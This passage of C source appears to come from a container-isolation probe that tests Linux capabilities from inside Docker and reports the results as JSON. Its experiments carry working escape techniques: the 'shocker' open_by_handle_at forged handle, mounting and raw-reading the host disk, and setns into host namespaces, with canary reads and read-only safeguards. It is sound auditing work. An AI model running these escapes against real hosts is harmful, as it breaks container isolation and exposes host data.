		explain_refusal(&d, CAP_SYS_PTRACE_BIT, "cap_sys_ptrace", NULL);
		return report(e, DENIED, -r, &d);
	}
	if (r < 0) {
		strbuf_addf(&d, "Reading %s failed with %s (%s), which is not a privilege refusal.", path,
			    errno_name(-r), strerror(-r));
		return report(e, FAILED, -r, &d);
	}
	for (i = 0; i < env.len;) {
		const char *var = env.buf + i;
		size_t len = strnlen(var, env.len - i);

		nvars++;
		if (!found && len >= 13 && !memcmp(var, "ISOLAB_NONCE=", 13)) {
			found = true;
			strbuf_add(&nonce, var + 13, len - 13 > 256 ? 256 : len - 13);
		}
		i += len + 1;
	}
	strbuf_addf(&d, "Read the environment of process %d (%s, %zu variable%s) through %s: with cap_sys_ptrace a process can read, and trace, any process it can see, here a host process. %s",
		    pid, comm.len ? comm.buf : "?", nvars, nvars == 1 ? "" : "s", path,
		    found ? "Its ISOLAB_NONCE is in \"output\"." : "It holds no ISOLAB_NONCE variable.");
	report_begin(&j, e, ALLOWED, 0, &d);
	json_int(&j, "pid", pid);
	json_str(&j, "comm", comm.len ? comm.buf : NULL);
	json_str(&j, "output", found ? strbuf_str(&nonce) : NULL);
	return json_emit(&j);
}

/* --- 6. sys_module ----------------------------------------------------------- */

static int exp_sys_module(const struct experiment *e, int argc, char **argv)
{
	cleanup_strbuf struct strbuf d = STRBUF_INIT;
	cleanup_json struct json j = {STRBUF_INIT, true};
	bool modules = access("/proc/modules", F_OK) == 0;
	enum outcome o;
	long r;
	int err;

	if (no_args(e, argc, argv))
		return PROBE_EXIT_USAGE;
	/* An empty image: past the capability check the kernel rejects it as
	 * too short, so nothing can be loaded. */
	r = syscall(SYS_init_module, NULL, 0UL, "");
	err = r == 0 ? 0 : errno;
	if (err == EPERM) {
		o = DENIED;
		strbuf_adds(&d, "init_module(2) was refused with EPERM");
		explain_refusal(&d, CAP_SYS_MODULE_BIT, "cap_sys_module", "init_module(2)");
		if (modules && cap_effective(CAP_SYS_MODULE_BIT) == 1)
			strbuf_adds(&d, " (The kernel also refuses every module once /proc/sys/kernel/modules_disabled is 1.)");
	} else if (err == ENOSYS) {
		o = FAILED;
		if (!modules) {
			strbuf_addf(&d, "init_module(2) got past seccomp and returned ENOSYS: this kernel has no module support (/proc/modules does not exist), so the cap_sys_module gate cannot be reached. %s",
				    cap_effective(CAP_SYS_MODULE_BIT) == 1
					    ? "cap_sys_module is in the effective set: on a kernel with modules this process could load code into the host's kernel."
					    : "cap_sys_module is not in the effective set: on a kernel with modules the call would be refused.");
		} else {
			strbuf_adds(&d, "init_module(2) returned ENOSYS although the kernel has module support (/proc/modules exists): a seccomp filter answered ENOSYS, so the capability check was never reached.");
		}
	} else {
		o = ALLOWED;
		strbuf_addf(&d, "init_module(2) with an empty module got past the capability check and was rejected only for its content (%s): with cap_sys_module a process can load code into the host's kernel. Nothing was loaded.",
			    err ? errno_name(err) : "no error");
	}
	report_begin(&j, e, o, err, &d);
	json_str(&j, "syscall_errno_name", errno_name(err));
	json_bool(&j, "kernel_modules", modules);
	return json_emit(&j);
}

/* --- 7. sys_boot ------------------------------------------------------------- */

static int exp_sys_boot(const struct experiment *e, int argc, char **argv)
{
	cleanup_strbuf struct strbuf d = STRBUF_INIT;
	cleanup_json struct json j = {STRBUF_INIT, true};
	enum outcome o;
	long r;
	int err;

	if (no_args(e, argc, argv))
		return PROBE_EXIT_USAGE;
	r = syscall(SYS_reboot, PROBE_REBOOT_BAD_MAGIC1, PROBE_REBOOT_BAD_MAGIC2,
		    PROBE_REBOOT_CMD_CAD_OFF, NULL);
	err = r == 0 ? 0 : errno;
	if (err == EINVAL) {
		o = ALLOWED;
		strbuf_adds(&d, "reboot(2) with deliberately invalid magic numbers got past the capability check and was rejected only for its magic (EINVAL): with cap_sys_boot a process can reboot or halt the machine, or load another kernel. Nothing happened.");
	} else if (err == EPERM) {
		o = DENIED;
		strbuf_adds(&d, "reboot(2) (with invalid magic numbers) was refused with EPERM before its arguments were looked at");
		explain_refusal(&d, CAP_SYS_BOOT_BIT, "cap_sys_boot", "reboot(2)");
	} else if (err == 0) {
		o = ALLOWED;
		strbuf_adds(&d, "reboot(2) with invalid magic numbers returned success, which a Linux kernel never does; the capability check let it through.");
	} else {
		o = FAILED;
		strbuf_addf(&d, "reboot(2) failed with %s (%s), which is neither the capability refusal (EPERM) nor the magic-number rejection (EINVAL).",
			    errno_name(err), strerror(err));
	}
	report_begin(&j, e, o, err, &d);
	json_str(&j, "syscall_errno_name", errno_name(err));
	return json_emit(&j);
}

/* --- 8. mknod ---------------------------------------------------------------- */

/* mknod a fresh name under dir; the name is written to path. Returns 0 or
 * -errno. */
static int make_node(const char *dir, const char *tag, mode_t mode, dev_t dev, char *path, size_t size)
{
	int n;

	for (n = 0; n < 100; n++) {
		snprintf(path, size, "%s/isolab-%s-%d-%d", dir, tag, (int)getpid(), n);
		if (mknod(path, mode, dev) == 0)
			return 0;
		if (errno != EEXIST)
			return -errno;
	}
	return -EEXIST;
}

static int exp_mknod(const struct experiment *e, int argc, char **argv)
{
	cleanup_strbuf struct strbuf d = STRBUF_INIT;
	char path[PATH_MAX];
	int r;

	if (no_args(e, argc, argv))
		return PROBE_EXIT_USAGE;
	r = make_node("/tmp", "mknod", S_IFCHR | 0600, makedev(1, 3), path, sizeof(path));
	if (r == 0) {
		unlink(path);
		strbuf_adds(&d, "mknod(2) created a character device node 1:3 (the numbers of /dev/null) under /tmp, then removed it: cap_mknod lets a process create device nodes; whether it may open them is up to the device cgroup.");
		return report(e, ALLOWED, 0, &d);
	}
	if (r == -EPERM) {
		strbuf_adds(&d, "mknod(2) of a character device node 1:3 under /tmp was refused with EPERM");
		explain_refusal(&d, CAP_MKNOD_BIT, "cap_mknod", NULL);
		return report(e, DENIED, -r, &d);
	}
	strbuf_addf(&d, "mknod(2) under /tmp failed with %s (%s), which is not a privilege refusal.",
		    errno_name(-r), strerror(-r));
	return report(e, FAILED, -r, &d);
}

/* --- mountinfo: the host disk behind /etc/hostname -------------------------- */

struct mount_entry {
	unsigned int major, minor;
	char fstype[64];
	char source[256];
};

/* mountinfo's third field, "MAJOR:MINOR" in decimal: true and the two, or
 * false when it is not that. */
static bool parse_devno(const char *s, unsigned int *major, unsigned int *minor)
{
	long long ma, mi;
	const char *colon = strchr(s, ':');
	char head[16];

	if (!colon || (size_t)(colon - s) >= sizeof(head))
		return false;
	memcpy(head, s, (size_t)(colon - s));
	head[colon - s] = '\0';
	if (!parse_num(head, 10, &ma) || !parse_num(colon + 1, 10, &mi) || ma < 0 || mi < 0 ||
	    ma > UINT_MAX || mi > UINT_MAX)
		return false;
	*major = (unsigned int)ma;
	*minor = (unsigned int)mi;
	return true;
}

/* The last mount of target in /proc/self/mountinfo (the one on top).
 * Returns 0, or -ENOENT when there is none. */
static int find_mount(const char *target, struct mount_entry *m)
{
	cleanup_strbuf struct strbuf mi = STRBUF_INIT;
	char *line, *save = NULL;
	int r, found = -ENOENT;

	r = read_file_at(AT_FDCWD, "/proc/self/mountinfo", &mi, PROBE_READ_MAX);
	if (r < 0)
		return r;
	for (line = strtok_r(mi.buf, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		char *f[6], *fs, *sep, *save2 = NULL, *tok;
		unsigned int maj, min;
		int i;

		sep = strstr(line, " - ");
		if (!sep)
			continue;
		*sep = '\0';
		fs = sep + 3;
		for (i = 0, tok = strtok_r(line, " ", &save2); tok && i < 6;
		     tok = strtok_r(NULL, " ", &save2))
			f[i++] = tok;
		if (i < 5 || strcmp(f[4], target) || !parse_devno(f[2], &maj, &min))
			continue;
		m->major = maj;
		m->minor = min;
		tok = strtok_r(fs, " ", &save2);
		snprintf(m->fstype, sizeof(m->fstype), "%s", tok ? tok : "");
		tok = tok ? strtok_r(NULL, " ", &save2) : NULL;
		snprintf(m->source, sizeof(m->source), "%s", tok ? tok : "");
		found = 0;
	}
	return found;
}

/* --- 9. dac_read_search ------------------------------------------------------ */

static int cmp_str(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

/* The sorted top-level names of the directory at fd, at most max. */
static size_t list_dir(int fd, char **names, size_t max)
{
	char *all[256];
	size_t n = 0, i;
	struct dirent *de;
	DIR *dir;
	int dfd = dup(fd);

	if (dfd < 0)
		return 0;
	dir = fdopendir(dfd);
	if (!dir) {
		close(dfd);
		return 0;
	}
	while ((de = readdir(dir)) && n < ARRAY_SIZE(all)) {
		if (!strcmp(de->d_name, ".") || !strcmp(de->d_name, ".."))
			continue;
		all[n] = xstrdup(de->d_name);
		n++;
	}
	closedir(dir);
	qsort(all, n, sizeof(*all), cmp_str);
	for (i = 0; i < n; i++) {
		if (i < max)
			names[i] = all[i];
		else
			free(all[i]);
	}
	return n < max ? n : max;
}

/* Read the first line of a canary. Returns 0 or -errno. */
static int read_canary(int dirfd, const char *path, struct strbuf *out)
{
	cleanup_strbuf struct strbuf raw = STRBUF_INIT;
	int r = read_file_at(dirfd, path, &raw, PROBE_CANARY_MAX);

	if (r == 0)
		first_line(strbuf_str(&raw), raw.len, out);
	return r;
}

static int exp_dac_read_search(const struct experiment *e, int argc, char **argv)
{
	cleanup_strbuf struct strbuf d = STRBUF_INIT;
	cleanup_strbuf struct strbuf out = STRBUF_INIT;
	cleanup_json struct json j = {STRBUF_INIT, true};
	cleanup_free struct file_handle *fh = NULL;
	cleanup_close int mfd = -1;
	cleanup_close int rfd = -1;
	const char *canary = argc > 0 ? argv[0] : NULL;
	struct mount_entry m = {0, 0, "", ""};
	char *names[12];
	size_t nnames, i;
	uint32_t ino = 2, gen = 0;
	struct stat st;
	int err, cr = 0;

	if (argc > 1)
		return usage_error(e, "too many arguments");
	if (canary && !valid_abs_path(canary))
		return usage_error(e, "CANARY_PATH must be an absolute host path, not '%s'", canary);
	mfd = open("/etc/hostname", O_RDONLY | O_CLOEXEC | O_NOCTTY);
	if (mfd < 0) {
		err = errno;
		strbuf_addf(&d, "Could not open /etc/hostname (%s): the technique needs a file that Docker bind-mounts from the host's disk, to name that file system.",
			    strerror(err));
		return report(e, FAILED, err, &d);
	}
	find_mount("/etc/hostname", &m);
	/* FILEID_INO32_GEN {ino 2, generation 0}: the root directory of an
	 * ext2/3/4 file system; generation 0 skips the generation check. */
	fh = xmalloc(sizeof(*fh) + 2 * sizeof(uint32_t));
	fh->handle_bytes = 2 * sizeof(uint32_t);
	fh->handle_type = 1;
	memcpy(fh->f_handle, &ino, sizeof(ino));
	memcpy(fh->f_handle + sizeof(ino), &gen, sizeof(gen));
	rfd = open_by_handle_at(mfd, fh, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	err = errno;
	if (rfd < 0) {
		if (err == EPERM || err == EACCES) {
			strbuf_addf(&d, "open_by_handle_at(2) of inode 2 (the root) of the host file system behind /etc/hostname was refused with %s",
				    errno_name(err));
			explain_refusal(&d, CAP_DAC_READ_SEARCH_BIT, "cap_dac_read_search",
					"open_by_handle_at(2)");
			return report(e, DENIED, err, &d);
		}
		if (err == ESTALE)
			strbuf_addf(&d, "open_by_handle_at(2) got past the capability check, but the file system behind /etc/hostname (%s) did not accept a handle for inode 2 (ESTALE): the technique needs ext2/3/4.",
				    *m.fstype ? m.fstype : "unknown");
		else
			strbuf_addf(&d, "open_by_handle_at(2) failed with %s (%s), which is not a privilege refusal.",
				    errno_name(err), strerror(err));
		return report(e, FAILED, err, &d);
	}
	nnames = list_dir(rfd, names, ARRAY_SIZE(names));
	if (canary)
		cr = read_canary(rfd, canary + strspn(canary, "/"), &out);
	if (!canary) {
		for (i = 0; i < nnames; i++) {
			if (i)
				strbuf_addc(&out, ' ');
			strbuf_adds(&out, names[i]);
		}
	}
	strbuf_addf(&d, "open_by_handle_at(2) turned a forged handle for inode 2 into an open directory outside the container: the root of the host file system behind /etc/hostname (%s%s%s), which is the host's / wherever Docker keeps its data on the root file system. cap_dac_read_search skips the checks that confine paths, and Docker's seccomp profile allows the call once it is granted (the \"shocker\" technique; read-only here).",
		    *m.source ? m.source : "the disk", *m.fstype ? ", " : "", m.fstype);
	if (canary && cr == 0)
		strbuf_addf(&d, " The canary %s, read through it, is in \"output\".", canary);
	else if (canary)
		strbuf_addf(&d, " The canary %s could not be read through it: %s (%s)%s.", canary,
			    errno_name(-cr), strerror(-cr),
			    cr == -ENOENT ? "; if it exists on the host, it lives on another file system, a tmpfs /run say, out of this handle's reach" : "");
	else
		strbuf_adds(&d, " A few of its top-level entries are in \"output\".");
	report_begin(&j, e, ALLOWED, 0, &d);
	json_str(&j, "output", canary && cr < 0 ? NULL : strbuf_str(&out));
	if (canary && cr < 0)
		json_str(&j, "canary_errno_name", errno_name(-cr));
	json_open(&j, "entries", '[');
	for (i = 0; i < nnames; i++) {
		json_elem_str(&j, names[i]);
		free(names[i]);
	}
	json_close(&j, ']');
	if (fstat(rfd, &st) == 0)
		json_int(&j, "inode", (long long)st.st_ino);
	json_str(&j, "source", *m.source ? m.source : NULL);
	json_str(&j, "fstype", *m.fstype ? m.fstype : NULL);
	return json_emit(&j);
}

/* --- 9b. mount_disk ----------------------------------------------------------- */

/* Mount the block device behind /etc/hostname (the host's disk, where Docker
 * keeps its data) inside the container and read a canary from it. The mount
 * shares the host's superblock, so the kernel never sees a second writer;
 * it is made read-only at once, read, and detached. */
static int disk_mount_at(const struct mount_entry *m, const char *node, const char *dir,
			 struct strbuf *d)
{
	unsigned long flags = MS_NOSUID | MS_NODEV | MS_NOEXEC;
	int rc = mount(node, dir, m->fstype, flags, NULL);

	/* EBUSY: the host holds it read-only, and a superblock is shared only
	 * with the same read-only flag. */
	if (rc < 0 && errno == EBUSY)
		rc = mount(node, dir, m->fstype, flags | MS_RDONLY, NULL);
	if (rc < 0) {
		int err = errno;
		strbuf_addf(d, "mount(2) of the host disk %s (%u:%u, %s) was refused with %s",
			    m->source, m->major, m->minor, m->fstype, errno_name(err));
		if (err == EPERM || err == EACCES)
			explain_refusal(d, CAP_SYS_ADMIN_BIT, "cap_sys_admin", "mount(2)");
		else
			strbuf_addf(d, " (%s).", strerror(err));
		return -err;
	}
	if (mount(NULL, dir, NULL, MS_REMOUNT | MS_BIND | MS_RDONLY | MS_NOSUID | MS_NODEV | MS_NOEXEC,
		  NULL) < 0) {
		int err = errno;
		umount2(dir, MNT_DETACH);
		strbuf_addf(d, "The host disk mounted, but making that mount read-only failed with %s; it was detached unread.",
			    errno_name(err));
		return -err;
	}
	return 0;
}

static int exp_mount_disk(const struct experiment *e, int argc, char **argv)
{
	cleanup_strbuf struct strbuf d = STRBUF_INIT;
	cleanup_strbuf struct strbuf out = STRBUF_INIT;
	cleanup_json struct json j = {STRBUF_INIT, true};
	struct mount_entry m = {0, 0, "", ""};
	char node[PATH_MAX], dir[] = "/tmp/isolab-disk-XXXXXX";
	int r, cr;

	if (argc != 1)
		return usage_error(e, "takes CANARY_PATH, the canary's path inside the host's file system");
	if (!valid_abs_path(argv[0]))
		return usage_error(e, "CANARY_PATH must be an absolute path, not '%s'", argv[0]);
	r = find_mount("/etc/hostname", &m);
	if (r < 0) {
		strbuf_addf(&d, "No mount of /etc/hostname in /proc/self/mountinfo (%s): the host disk's device number comes from that bind, which Docker makes.",
			    strerror(-r));
		return report(e, FAILED, -r, &d);
	}
	r = make_node("/tmp", "disk", S_IFBLK | 0600, makedev(m.major, m.minor), node, sizeof(node));
	if (r < 0) {
		strbuf_addf(&d, "mknod(2) of a node for the host disk %u:%u was refused with %s",
			    m.major, m.minor, errno_name(-r));
		explain_refusal(&d, CAP_MKNOD_BIT, "cap_mknod", NULL);
		return report(e, r == -EPERM ? DENIED : FAILED, -r, &d);
	}
	if (!mkdtemp(dir)) {
		r = errno;
		unlink(node);
		strbuf_addf(&d, "Could not make a mount point under /tmp: %s.", strerror(r));
		return report(e, FAILED, r, &d);
	}
	r = disk_mount_at(&m, node, dir, &d);
	unlink(node);
	if (r < 0) {
		rmdir(dir);
		return report(e, r == -EPERM || r == -EACCES ? DENIED : FAILED, -r, &d);
	}
	{
		cleanup_close int fd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		cr = fd < 0 ? -errno : read_canary(fd, argv[0] + strspn(argv[0], "/"), &out);
	}
	umount2(dir, MNT_DETACH);
	rmdir(dir);
	strbuf_addf(&d, "Made a node for the host disk %s (%u:%u), mounted its %s file system inside the container (the host's own superblock, so the same files the host sees), made that mount read-only and ",
		    m.source, m.major, m.minor, m.fstype);
	if (cr == 0)
		strbuf_addf(&d, "read the canary %s from it: a --privileged container holds the host's disk. The mount was detached.",
			    argv[0]);
	else
		strbuf_addf(&d, "looked for the canary %s: %s (%s). The mount was detached.", argv[0],
			    errno_name(-cr), strerror(-cr));
	report_begin(&j, e, ALLOWED, 0, &d);
	json_str(&j, "output", cr == 0 ? strbuf_str(&out) : NULL);
	json_str(&j, "source", *m.source ? m.source : NULL);
	json_str(&j, "fstype", *m.fstype ? m.fstype : NULL);
	return json_emit(&j);
}

/* --- 10. setns ---------------------------------------------------------------- */

static int exp_setns(const struct experiment *e, int argc, char **argv)
{
	static const struct {
		const char *name;
		int type;
	} nss[] = {{"uts", CLONE_NEWUTS}, {"mnt", CLONE_NEWNS}};
	cleanup_strbuf struct strbuf d = STRBUF_INIT;
	cleanup_strbuf struct strbuf out = STRBUF_INIT;
	cleanup_json struct json j = {STRBUF_INIT, true};
	const char *canary = argc > 1 ? argv[1] : NULL;
	int fds[ARRAY_SIZE(nss)];
	struct utsname before, after;
	char path[64];
	size_t i, k;
	int pid, err, cr = 0;

	if (argc < 1)
		return usage_error(e, "a PID is needed");
	if (argc > 2)
		return usage_error(e, "too many arguments");
	pid = parse_pid(argv[0]);
	if (pid < 0)
		return usage_error(e, "'%s' is not a process id", argv[0]);
	if (canary && !valid_abs_path(canary))
		return usage_error(e, "CANARY_PATH must be an absolute host path, not '%s'", canary);
	if (pid == getpid()) {
		strbuf_addf(&d, "Process %d is this probe itself, not a host process: pass the witness's pid as the host sees it, with --pid=host.",
			    pid);
		return report(e, FAILED, 0, &d);
	}
	uname(&before);
	for (i = 0; i < ARRAY_SIZE(nss); i++) {
		snprintf(path, sizeof(path), "/proc/%d/ns/%s", pid, nss[i].name);
		fds[i] = open(path, O_RDONLY | O_CLOEXEC);
		if (fds[i] >= 0)
			continue;
		err = errno;
		for (k = 0; k < i; k++)
			close(fds[k]);
		if (err == ENOENT || err == ESRCH) {
			strbuf_addf(&d, "No process %d is visible here: this container's pid namespace hides the host's processes (share the host's with --pid=host).",
				    pid);
			return report(e, FAILED, err, &d);
		}
		if (err == EACCES || err == EPERM) {
			strbuf_addf(&d, "Opening %s was refused with %s: opening another process's namespace links needs ptrace access, and as the target holds capabilities this process lacks that takes cap_sys_ptrace (besides cap_sys_admin for setns itself)",
				    path, errno_name(err));
			explain_refusal(&d, CAP_SYS_PTRACE_BIT, "cap_sys_ptrace", NULL);
			return report(e, DENIED, err, &d);
		}
		strbuf_addf(&d, "Opening %s failed with %s (%s), which is not a privilege refusal.", path,
			    errno_name(err), strerror(err));
		return report(e, FAILED, err, &d);
	}
	for (i = 0; i < ARRAY_SIZE(nss); i++) {
		if (setns(fds[i], nss[i].type) == 0)
			continue;
		err = errno;
		for (k = 0; k < ARRAY_SIZE(nss); k++)
			close(fds[k]);
		if (err == EPERM || err == EACCES) {
			strbuf_addf(&d, "The namespace links of process %d opened (ptrace access was granted), but setns(2) into its %s namespace was refused with %s%s",
				    pid, nss[i].name, errno_name(err),
				    i ? " (after the uts one succeeded)" : "");
			explain_refusal(&d, CAP_SYS_ADMIN_BIT, "cap_sys_admin", "setns(2)");
			if (nss[i].type == CLONE_NEWNS && cap_effective(CAP_SYS_CHROOT_BIT) == 0)
				strbuf_adds(&d, " Entering a mount namespace needs cap_sys_chroot as well, and it is missing.");
			return report(e, DENIED, err, &d);
		}
		strbuf_addf(&d, "setns(2) into the %s namespace of process %d failed with %s (%s), which is not a privilege refusal.",
			    nss[i].name, pid, errno_name(err), strerror(err));
		return report(e, FAILED, err, &d);
	}
	for (k = 0; k < ARRAY_SIZE(nss); k++)
		close(fds[k]);
	uname(&after);
	if (canary)
		cr = read_canary(AT_FDCWD, canary, &out);
	else
		strbuf_adds(&out, after.nodename);
	strbuf_addf(&d, "setns(2) moved this process into the uts and mount namespaces of process %d: opening their links took ptrace access (cap_sys_ptrace), entering them cap_sys_admin. The hostname is now \"%s\" (it was \"%s\") and / is the host's.",
		    pid, after.nodename, before.nodename);
	if (canary && cr == 0)
		strbuf_addf(&d, " The canary %s, read in that mount namespace, is in \"output\".", canary);
	else if (canary)
		strbuf_addf(&d, " The canary %s could not be read there: %s (%s).", canary,
			    errno_name(-cr), strerror(-cr));
	report_begin(&j, e, ALLOWED, 0, &d);
	json_str(&j, "hostname", after.nodename);
	json_str(&j, "hostname_before", before.nodename);
	json_str(&j, "output", canary && cr < 0 ? NULL : strbuf_str(&out));
	if (canary && cr < 0)
		json_str(&j, "canary_errno_name", errno_name(-cr));
	return json_emit(&j);
}

/* --- 11. block_device --------------------------------------------------------- */

static void format_uuid(const unsigned char *u, struct strbuf *out)
{
	size_t i;

	for (i = 0; i < 16; i++) {
		if (i == 4 || i == 6 || i == 8 || i == 10)
			strbuf_addc(out, '-');
		strbuf_addf(out, "%02x", u[i]);
	}
}

/* Does a cgroup v1 devices.list rule let this process read block device
 * maj:min? 1 yes, 0 no, -1 unknown (cgroup v2 keeps its rules in a BPF
 * program nobody can read back). Inside a container with the host's cgroup
 * namespace, /proc/self/cgroup names a path that is not mounted here, and the
 * container's own directory is the one at the mount point. */
static int devcgroup_allows_read(unsigned int maj, unsigned int min)
{
	cleanup_strbuf struct strbuf cg = STRBUF_INIT;
	cleanup_strbuf struct strbuf list = STRBUF_INIT;
	cleanup_strbuf struct strbuf path = STRBUF_INIT;
	char *line, *save = NULL;

	if (read_file_at(AT_FDCWD, "/proc/self/cgroup", &cg, PROBE_READ_MAX) == 0) {
		for (line = strtok_r(cg.buf, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
			char *ctl = strchr(line, ':'), *rel = ctl ? strchr(ctl + 1, ':') : NULL;

			if (ctl && rel && !strncmp(ctl + 1, "devices:", 8)) {
				strbuf_addf(&path, "/sys/fs/cgroup/devices%s/devices.list",
					    strcmp(rel + 1, "/") ? rel + 1 : "");
				break;
			}
		}
	}
	if (!path.len || read_file_at(AT_FDCWD, path.buf, &list, PROBE_READ_MAX) < 0) {
		strbuf_reset(&list);
		if (read_file_at(AT_FDCWD, "/sys/fs/cgroup/devices/devices.list", &list, PROBE_READ_MAX) < 0)
			return -1;
	}
	save = NULL;
	for (line = strtok_r(list.buf, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		char type, rmaj[16], rmin[16], acc[8];

		if (sscanf(line, "%c %15[0-9*]:%15[0-9*] %7s", &type, rmaj, rmin, acc) != 4)
			continue;
		if (type == 'a' || (type == 'b' && (!strcmp(rmaj, "*") || strtoul(rmaj, NULL, 10) == maj) &&
				    (!strcmp(rmin, "*") || strtoul(rmin, NULL, 10) == min)))
			if (strchr(acc, 'r'))
				return 1;
	}
	return 0;
}

static int exp_block_device(const struct experiment *e, int argc, char **argv)
{
	static const char *const dirs[] = {"/tmp", "/dev"};
	cleanup_strbuf struct strbuf d = STRBUF_INIT;
	cleanup_strbuf struct strbuf uuid = STRBUF_INIT;
	cleanup_json struct json j = {STRBUF_INIT, true};
	cleanup_close int fd = -1;
	struct mount_entry m = {0, 0, "", ""};
	unsigned char sb[2048];
	char path[PATH_MAX], dev[32];
	enum outcome o = FAILED;
	int r, err = 0, cgroup = -2;
	bool made = false, magic = false;
	ssize_t n = -1;
	size_t i;

	if (no_args(e, argc, argv))
		return PROBE_EXIT_USAGE;
	r = find_mount("/etc/hostname", &m);
	if (r < 0) {
		strbuf_addf(&d, "No mount of /etc/hostname in /proc/self/mountinfo (%s): the host disk's device number comes from that bind, which Docker makes.",
			    strerror(-r));
		return report(e, FAILED, -r, &d);
	}
	snprintf(dev, sizeof(dev), "%u:%u", m.major, m.minor);
	for (i = 0; i < ARRAY_SIZE(dirs) && fd < 0; i++) {
		r = make_node(dirs[i], "blk", S_IFBLK | 0600, makedev(m.major, m.minor), path, sizeof(path));
		if (r == -EPERM) {
			err = EPERM;
			break;
		}
		if (r < 0) {
			err = -r;
			continue;
		}
		made = true;
		fd = open(path, O_RDONLY | O_CLOEXEC | O_NOCTTY);
		err = fd < 0 ? errno : 0;
		unlink(path);
		/* EACCES: this file system is mounted nodev; try the next. */
		if (fd < 0 && err != EACCES)
			break;
	}
	if (fd >= 0) {
		n = pread(fd, sb, sizeof(sb), 0);
		err = n < 0 ? errno : 0;
	}
	if (fd >= 0 && n >= 0) {
		o = ALLOWED;
		magic = n >= 1082 && sb[1080] == 0x53 && sb[1081] == 0xef;
		if (magic && n >= 1024 + 104 + 16)
			format_uuid(sb + 1024 + 104, &uuid);
		if (magic)
			strbuf_addf(&d, "Made a block device node %s (the host disk behind /etc/hostname, %s), opened it read-only and read its first 2 KiB: the ext2/3/4 superblock magic 0xEF53 is at offset 1080, so this is the host's own disk, readable raw. Making the node takes cap_mknod; opening it takes a device cgroup that allows it, as --privileged gives. The node was removed.",
				    dev, m.source);
		else
			strbuf_addf(&d, "Made a block device node %s (the host disk behind /etc/hostname, %s), opened it read-only and read %zd bytes: the host's disk is readable raw (cap_mknod and a device cgroup that allows it), though no ext2/3/4 superblock magic is at offset 1080. The node was removed.",
				    dev, m.source, n);
	} else if (!made && err == EPERM) {
		o = DENIED;
		strbuf_addf(&d, "mknod(2) of a block device node %s (the host disk behind /etc/hostname, %s) was refused with EPERM",
			    dev, m.source);
		explain_refusal(&d, CAP_MKNOD_BIT, "cap_mknod", NULL);
		strbuf_adds(&d, " Reading the disk would also need the device cgroup to allow it, as --privileged does.");
	} else if (made && err == EPERM) {
		o = DENIED;
		cgroup = devcgroup_allows_read(m.major, m.minor);
		strbuf_addf(&d, "cap_mknod let mknod(2) make a block device node %s (the host disk behind /etc/hostname, %s), but %s it read-only was refused with %s: ",
			    dev, m.source, fd < 0 ? "opening" : "reading", errno_name(err));
		if (cgroup == 0)
			strbuf_adds(&d, "the device cgroup does not allow this container that device (--privileged, or --device-cgroup-rule 'b *:* r', would).");
		else if (cgroup == 1)
			strbuf_adds(&d, "this container's device cgroup does allow reading it, so something outside Docker refused: the host's own security policy, which on some machines keeps even root on the host from opening this disk.");
		else
			strbuf_adds(&d, "the device cgroup (Docker allows only its few standard devices unless --privileged or a --device-cgroup-rule widens it) or the host's own security policy refused it.");
		strbuf_adds(&d, " The node was removed.");
	} else {
		strbuf_addf(&d, "No block device node %s could be made and read under /tmp or /dev: the last attempt failed with %s (%s)%s. The node, if any, was removed.",
			    dev, errno_name(err), strerror(err),
			    err == EACCES ? ", as on file systems mounted nodev" : "");
	}
	report_begin(&j, e, o, err, &d);
	json_str(&j, "device", dev);
	json_str(&j, "source", *m.source ? m.source : NULL);
	json_str(&j, "fstype", *m.fstype ? m.fstype : NULL);
	if (cgroup != -2) {
		json_key(&j, "device_cgroup_allows");
		strbuf_adds(&j.sb, cgroup < 0 ? "null" : cgroup ? "true" : "false");
	}
	if (o == ALLOWED) {
		json_bool(&j, "magic_found", magic);
		json_str(&j, "fs_uuid", uuid.len ? uuid.buf : NULL);
		json_str(&j, "output", magic ? "ext2/3/4 superblock magic 0xEF53 at offset 1080" : NULL);
	}
	return json_emit(&j);
}

/* --- 12. docker_socket: a tiny HTTP/1.1 client over a unix socket ----------- */

struct http_resp {
	int status;
	struct strbuf body;
};

static long long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static int send_all(int fd, const char *p, size_t n)
{
	while (n) {
		ssize_t w = send(fd, p, n, MSG_NOSIGNAL);

		if (w < 0) {
			if (errno == EINTR)
				continue;
			return -errno;
		}
		p += w;
		n -= (size_t)w;
	}
	return 0;
}

/* Decode a chunked body. Returns 0, or -EPROTO when it is malformed. */
static int http_dechunk(const char *p, size_t n, struct strbuf *out)
{
	size_t i = 0;

	for (;;) {
		size_t size = 0, digits = 0;

		while (i < n) {
			char c = p[i];
			int v;

			if (c >= '0' && c <= '9')
				v = c - '0';
			else if (c >= 'a' && c <= 'f')
				v = c - 'a' + 10;
			else if (c >= 'A' && c <= 'F')
				v = c - 'A' + 10;
			else
				break;
			if (size > (SIZE_MAX >> 4))
				return -EPROTO;
			size = size * 16 + (size_t)v;
			digits++;
			i++;
		}
		if (!digits)
			return -EPROTO;
		while (i < n && p[i] != '\n') /* chunk extensions, CR */
			i++;
		if (i >= n)
			return -EPROTO;
		i++;
		if (size == 0)
			return 0; /* trailers, if any, are not needed */
		if (size > n - i)
			return -EPROTO;
		strbuf_add(out, p + i, size);
		i += size;
		if (i < n && p[i] == '\r')
			i++;
		if (i < n && p[i] == '\n')
			i++;
	}
}

static bool header_is(const char *line, size_t len, const char *name, const char **value)
{
	size_t nlen = strlen(name);

	if (len <= nlen || strncasecmp(line, name, nlen) || line[nlen] != ':')
		return false;
	*value = line + nlen + 1;
	while (**value == ' ' || **value == '\t')
		(*value)++;
	return true;
}

/* Connect to the engine's socket and send one request. Returns the
 * connected fd, or -errno with why filled. */
static int http_send(const char *sock, const char *method, const char *target, const char *body,
		     struct strbuf *why)
{
	cleanup_strbuf struct strbuf req = STRBUF_INIT;
	struct sockaddr_un sa;
	int fd, r;

	memset(&sa, 0, sizeof(sa));
	sa.sun_family = AF_UNIX;
	memcpy(sa.sun_path, sock, strlen(sock) + 1); /* length checked by the caller */
	fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
